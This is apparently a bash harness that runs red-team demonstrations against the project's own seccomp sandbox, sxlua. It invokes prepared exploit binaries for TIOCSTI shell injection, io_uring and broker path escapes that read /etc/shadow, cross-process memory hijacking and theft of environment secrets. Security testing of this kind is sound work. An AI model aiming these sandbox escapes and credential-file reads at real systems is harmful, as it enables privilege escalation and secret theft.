#!/bin/bash
# attacks/run.sh NAME...: run the red-team demonstrations (as root; each says what it shows).
# Build first: attacks/build.sh. Names: tiocsti pgsig uring broker ip_rule memhijack_shell
# memhijack_run environ own_filter kill_evade uffd_stall oomadj reach exec traceme broker_paths
# broker_race gate sti32 kill_all broker_unix; `all` runs every one that ends by itself.
cd "$(dirname "$0")/.." || exit 1
R=$PWD
SX=$R/build/sxlua
A=$R/attacks
NB="setpriv --reuid nobody --regid nogroup --clear-groups"
T=${SX_RT_DIR:-/tmp/sx-redteam}

fixture() {      # a tenant for the broker, a secret beside it, readable by nobody
  rm -rf "$T"; mkdir -p "$T/tenant" "$T/out" "$T/m"
  echo tenant-data > "$T/tenant/data.txt"
  echo SECRET-OUTSIDE-TENANT > "$T/secret"
  echo nobody-owned-outside > "$T/outside_nobody"
  chown nobody "$T/tenant" "$T/out" "$T/outside_nobody"; chmod 600 "$T/outside_nobody"
  chmod 755 "$T"; chmod 777 "$T/m"; chmod 644 "$T/secret"
}

t_tiocsti() {   # CRITICAL: nobody under policies/minimal.lua types a command into the user's shell
  rm -f /tmp/sxlua-tiocsti-pwned
  printf '%s\n' "cd / && $NB $SX $R/policies/minimal.lua -- $A/tiocsti < /dev/null" > "$T/tiocsti.script"
  python3 "$A/pty_run.py" "$T/tiocsti.script"
  echo; echo "--- /tmp/sxlua-tiocsti-pwned (written by the user's shell, not the sandbox):"
  cat /tmp/sxlua-tiocsti-pwned
}

t_pgsig() {     # HIGH: kill(0, SIG) from inside the PID namespace reaches sxlua and the caller's group
  (cd / && setsid sh -c "$SX $A/allow_all.lua -- $A/pgsig 9; echo 'script: not reached'")
  echo "root workload: the script that ran sxlua ended with $?  (137: SIGKILL from the sandbox)"
  (cd / && setsid sh -c "$NB $SX $A/allow_all.lua -- $A/pgsig 19 & sleep 1; ps -o pid,stat,user,args -g \$\$ | grep -v ps; kill -KILL \$!")
}

t_uring() {     # CRITICAL: policies/broker.lua hands out any file through io_uring
  fixture
  echo "--- control: cat $T/secret through the broker"; (cd / && $NB $SX $R/policies/broker.lua "$T/tenant" -- /bin/cat "$T/secret")
  echo "--- io_uring OPENAT as nobody"; (cd / && $NB $SX $R/policies/broker.lua "$T/tenant" -- "$A/uring_open" "$T/secret")
  echo "--- io_uring OPENAT as root"; (cd / && $SX $R/policies/broker.lua "$T/tenant" -- "$A/uring_open" /etc/shadow | head -2)
}

t_broker() {    # HIGH: link/mknod/open_tree/chmod go around the broker's openat handler
  fixture
  B="$SX $R/policies/broker.lua $T/tenant --"
  (cd / && $NB $B "$A/broker_escape" open_tree /etc/shadow)
  (cd / && $NB $B "$A/broker_escape" link "$T/outside_nobody")
  (cd / && $B "$A/broker_escape" link /etc/shadow | head -3)
  (cd / && $B "$A/broker_escape" mknod c 1 11 | head -3)
  cp "$T/secret" "$T/victim"; (cd / && $B "$A/broker_escape" chmod "$T/victim" 777); ls -l "$T/victim"
}

t_ip_rule() {   # CRITICAL: the supervisor decides without the instruction pointer and lets a killed call run
  (cd / && $SX --no-supervise "$A/ip_rule.lua" -- "$R/build/spec-bin/sxtry" 41 1 1 0; echo "kernel alone: status $?")
  (cd / && $SX "$A/ip_rule.lua" -- "$R/build/spec-bin/sxtry" 41 1 1 0; echo "supervised: status $? (0: socket() ran)")
}

t_memhijack_shell() {  # CRITICAL (--no-pid-namespace): minimal.lua workload runs code in its job's shell
  rm -f /tmp/sxlua-hijack-shell
  (cd / && $NB sh -c "$SX --no-pid-namespace $R/policies/minimal.lua -- $A/memhijack --parent 'id > /tmp/sxlua-hijack-shell; grep Seccomp: /proc/self/status >> /tmp/sxlua-hijack-shell'; echo sxlua: \$?")
  sleep 0.5; cat /tmp/sxlua-hijack-shell
}

t_memhijack_run() {    # CRITICAL (--no-pid-namespace): a workload takes over the NEXT sxlua of its uid
  rm -f /tmp/sxlua-hijack-run2
  (cd / && $NB $SX --no-pid-namespace $R/policies/minimal.lua -- $A/memhijack --watch \
     "id > /tmp/sxlua-hijack-run2; grep -E 'Seccomp:|NoNewPrivs' /proc/self/status >> /tmp/sxlua-hijack-run2" \
     > "$T/runA.log" 2>&1 & echo $! > "$T/runA.pid")
  sleep 1
  echo "--- run B: another job of the same uid, default PID namespace"
  (cd / && $NB $SX $R/policies/minimal.lua -- /bin/echo "run B's workload ran"; echo "run B status $?")
  sleep 1; echo "--- run A said:"; cat "$T/runA.log"; echo "--- proof:"; cat /tmp/sxlua-hijack-run2
  kill "$(cat "$T/runA.pid")" 2>/dev/null
}

t_environ() {   # HIGH: root workload reads sxlua's environment (and maps, auxv, pagemap) without CAP_SYS_PTRACE
  (cd / && SECRET_TOKEN=hunter2 $SX "$A/env_scrub.lua" -- /usr/bin/env)
  echo "--- sxlua's own environ, read by the workload:"
  (cd / && SECRET_TOKEN=hunter2 $SX "$A/env_scrub.lua" -- "$A/readproc" environ agent | grep SECRET)
  (cd / && $SX "$A/env_scrub.lua" -- "$A/readproc" maps agent | head -3)
}

t_own_filter() { # MEDIUM: the workload's own errno filter beats sxlua's notification: no kill
  (cd / && $SX --no-supervise "$A/deny_socket_kill.lua" -- "$A/own_filter"; echo "kernel alone: status $?")
  (cd / && $NB $SX "$A/deny_socket_kill.lua" -- "$A/own_filter"; echo "supervised: status $?")
}

t_kill_evade() { # MEDIUM: signals interrupt the notified call: EINTR instead of a kill (racy)
  for i in 1 2 3; do (cd / && timeout -s KILL 30 $NB $SX "$A/deny_socket_kill.lua" -- "$A/kill_evade" 41 200 2>&1 | tr '\r' '\n' | tail -2); echo; done
}

t_uffd_stall() { # MEDIUM: root stalls the supervisor in its read of our memory; no kill, every time
  (cd / && $SX "$A/deny_socket_kill.lua" -- "$A/uffd_stall"; echo "status $? (the report line says killed; nobody was)")
}

t_oomadj() { (cd / && $SX "$A/env_scrub.lua" -- "$A/oomadj"); }

t_reach() { for u in root nobody; do for f in "" --no-pid-namespace; do
  P=""; [ $u = nobody ] && P=$NB
  echo "=== $u $f"; (cd / && $P $SX $f "$A/allow_all.lua" -- "$A/reach" --userns | grep -v -E " (EACCES|EPERM|ESRCH|EINVAL)")
done; done; }

t_exec() { fixture; for pol in deny_socket_kill deny_exec_errno; do for u in root nobody; do for f in "" --no-supervise; do
  P=""; [ $u = nobody ] && P=$NB
  echo "=== $pol $u $f"; rm -f "$T"/m/*; (cd / && $P $SX $f "$A/$pol.lua" -- "$A/exec_tries" "$T/m/x" 2>/dev/null)
done; done; done; }

t_traceme() { (cd / && $SX "$A/allow_all.lua" -- "$A/traceme"; echo "status $?"); }

t_broker_paths() { fixture; ln -sf /etc/passwd "$T/tenant/escape"
  (cd / && timeout -s KILL 90 $NB $SX $R/policies/broker.lua "$T/tenant" -- "$A/broker_paths" "$T/tenant"); }

t_broker_race() { fixture; (cd / && timeout 300 $NB $SX $R/policies/broker.lua "$T/tenant" -- "$A/broker_race" "$T/out" 2>&1 | tail -3); }

t_gate() { "$A/gate_arches"; }

# Found by the second wave's red team (fixed the same day): with the gate's pages kept
# mapped until reap, a root workload read their address in sxlua's /proc/PID/maps and
# guessed the three 9-bit slots (errno policy: seconds), or the sendmsg slot with one
# fork per guess. The gate now also matches three random keys in args 3..5.
t_gate_brute() { rm -f /tmp/sx-gate-pwned; (cd / && timeout -s KILL 120 $SX "$A/deny_exec_errno.lua" -- "$A/gate_brute"); cat /tmp/sx-gate-pwned 2>/dev/null || echo "held: no second exec"; }
t_gate_sendmsg() { for f in "" --no-supervise --no-pid-namespace; do (cd / && timeout -s KILL 60 $SX $f "$A/deny_sendmsg_kill.lua" -- "$A/gate_sendmsg" 2>&1 | tail -1); done; }

# Found by the third wave's red team (fixed the same day): root keeps CAP_PERFMON, and
# CPU-wide context-switch samples of sxlua's user stack held the gate's keys (left by the
# calls that built the gate); with them a second execve passed. sxlua now zeroes them.
t_perf_keys() { for f in "" --no-pid-namespace; do (cd / && timeout -s KILL 60 $SX $f "$A/allow_all.lua" -- "$A/perf_keys" 2>/dev/null; echo "status $? (1: a second exec passed)"); done; }

# Re-test against main (2026-12-03): new tries.
t_sti32() {     # TIOCSTI through i386 int $0x80 on a pty the root workload opens (held: EPERM)
  (cd / && $SX "$A/allow_all.lua" -- "$A/sti32"); echo "--- control, outside sxlua:"; "$A/sti32"
}

t_kill_all() {  # kill(-1, sig) inside the PID namespace (held: ESRCH, sxlua and its caller live)
  for sig in KILL STOP; do
    (cd / && setsid sh -c "$NB $SX $A/allow_all.lua -- /bin/sh -c 'kill -$sig -1; echo workload lived'; echo sxlua \$?" < /dev/null)
  done
}

t_broker_unix() { # HIGH (new): policies/broker.lua lets AF_UNIX connect/bind reach paths outside the tenant
  fixture
  python3 -c "
import socket, os
s = socket.socket(socket.AF_UNIX); s.bind('$T/srv.sock'); os.chmod('$T/srv.sock', 0o777); s.listen(5); s.settimeout(10)
try:
    while True:
        c, _ = s.accept(); c.sendall(b'hello from a root service outside the tenant\\n'); c.close()
except Exception: pass
" & sleep 0.5
  (cd / && $NB $SX $R/policies/broker.lua "$T/tenant" -- "$A/brk32" - "$T/srv.sock" "$T/out/made.sock"; echo "status $?")
  ls -l "$T/out"
  echo "--- the i386 ABI (int \$0x80) is killed, the filter's default:"
  (cd / && $NB $SX $R/policies/broker.lua "$T/tenant" -- "$A/brk32" "$T/outside_nobody" /nonexistent "$T/out/x"; echo "status $?")
  kill %1 2>/dev/null; wait
}

[ $# -eq 0 ] && set -- all
[ "$1" = all ] && set -- tiocsti pgsig uring broker ip_rule memhijack_shell memhijack_run environ own_filter \
  kill_evade uffd_stall oomadj reach exec traceme broker_paths broker_race gate sti32 kill_all broker_unix
mkdir -p "$T"
for n in "$@"; do echo "################ $n"; "t_$n"; done
